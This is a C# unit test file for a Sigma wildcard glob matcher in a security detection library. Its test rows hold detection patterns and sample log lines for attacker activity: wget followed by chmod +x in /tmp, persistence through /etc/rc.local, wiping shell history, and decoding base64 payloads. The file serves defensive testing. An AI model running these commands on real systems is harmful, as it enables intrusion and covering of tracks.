using Soc.Detection.Matching;

namespace Soc.Detection.Tests.Matching;

/// <summary>
/// The glob matcher finds <c>?</c>-free chunks with the runtime's ordinal search and walks the others
/// char by char. Both are checked here against a plain reading of Sigma wildcards (every way of spending
/// each <c>*</c>, case compared char by char in invariant upper case).
/// </summary>
public sealed class GlobMatcherTests
{
    [Theory]
    [InlineData("*wget *; chmod +x*", "Dec 10 06:55:46 web01 bash[1]: cd /tmp; WGET http://x/a; CHMOD +x a", true)]
    [InlineData("*wget *; chmod +x*", "Dec 10 06:55:46 web01 bash[1]: wget http://x/a && chmod +x a", false)]
    [InlineData("*>>/etc/rc.local", "echo x >>/etc/rc.local", true)]
    [InlineData("*>>/etc/rc.local", "echo x >>/etc/rc.local.bak", false)]
    [InlineData("rm *sh_history", "rm /root/.bash_history", true)]
    [InlineData("rm *sh_history", "sudo rm /root/.bash_history", false)]
    [InlineData("ping -c 2 *; grep * /proc/net/arp >/tmp/gx", "ping -c 2 10.0.0.1; grep 10.0.0.1 /proc/net/arp >/tmp/gx", true)]
    [InlineData("* /tmp/*.b64 *", "cat /tmp/x.b64 | base64 -d", true)]
    [InlineData("* /tmp/*.b64 *", "cat /tmp/x.b64", false)]
    [InlineData("*a*b?d*", "xxaYYbcdzz", true)]
    [InlineData("*a*b?d*", "xxaYYbdzz", false)]
    [InlineData("a**c", "ac", true)]
    [InlineData("*", "", true)]
    [InlineData("*ÉCOLE*", "l'école", true)]
    public void MatchesSigmaKeywordGlobs(string pattern, string text, bool expected)
    {
        var glob = new GlobMatcher(SigmaPattern.Parse(pattern), ignoreCase: true);
        Assert.Equal(expected, glob.Match(text));
        Assert.Equal(expected, Reference(SigmaPattern.Parse(pattern), text, ignoreCase: true));
    }

    [Fact]
    public void CaseSensitiveGlobsCompareOrdinally()
    {
        var glob = new GlobMatcher(SigmaPattern.Parse("*Chmod*"), ignoreCase: false);
        Assert.True(glob.Match("x Chmod y"));
        Assert.False(glob.Match("x chmod y"));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void AgreesWithThePlainReadingOnRandomPatterns(bool ignoreCase)
    {
        // Letters whose case folding differs by culture or is one-way (ß, İ, ı, the Kelvin sign), the
        // wildcards themselves as text, and repeats that make greedy chunk choices matter.
        const string textAlphabet = "aAbBkKsS?*ßİıK";
        const string patternAlphabet = "aAbksßıK**??"; // weighted towards wildcards, so that many pairs match
        var random = new Random(11);
        string Text(int n, string alphabet = textAlphabet) => new([.. Enumerable.Range(0, n).Select(_ => alphabet[random.Next(alphabet.Length)])]);
        var checkedMatches = 0;
        for (var i = 0; i < 20_000; i++)
        {
            var pattern = SigmaPattern.Parse(Text(1 + random.Next(7), patternAlphabet));
            if (!SigmaPattern.HasWildcards(pattern))
            {
                continue;
            }

            var text = Text(random.Next(10));
            var expected = Reference(pattern, text, ignoreCase);
            Assert.True(expected == new GlobMatcher(pattern, ignoreCase).Match(text), $"pattern {SigmaPattern.Display(pattern)}, text '{text}'");
            checkedMatches += expected ? 1 : 0;
        }

        Assert.InRange(checkedMatches, 500, 19_000); // both outcomes well represented
    }

    // Wildcard matching by dynamic programming over (pattern position, text position): no chunking, no search.
    private static bool Reference(string pattern, string text, bool ignoreCase)
    {
        var can = new bool[pattern.Length + 1, text.Length + 1];
        can[pattern.Length, text.Length] = true;
        for (var p = pattern.Length - 1; p >= 0; p--)
        {
            for (var t = text.Length; t >= 0; t--)
            {
                can[p, t] = pattern[p] switch
                {
                    SigmaPattern.Star => can[p + 1, t] || (t < text.Length && can[p, t + 1]),
                    SigmaPattern.One => t < text.Length && can[p + 1, t + 1],
                    var c => t < text.Length && Same(c, text[t], ignoreCase) && can[p + 1, t + 1],
                };
            }
        }

        return can[0, 0];
    }

    private static bool Same(char a, char b, bool ignoreCase) =>
        a == b || (ignoreCase && char.ToUpperInvariant(a) == char.ToUpperInvariant(b));
}
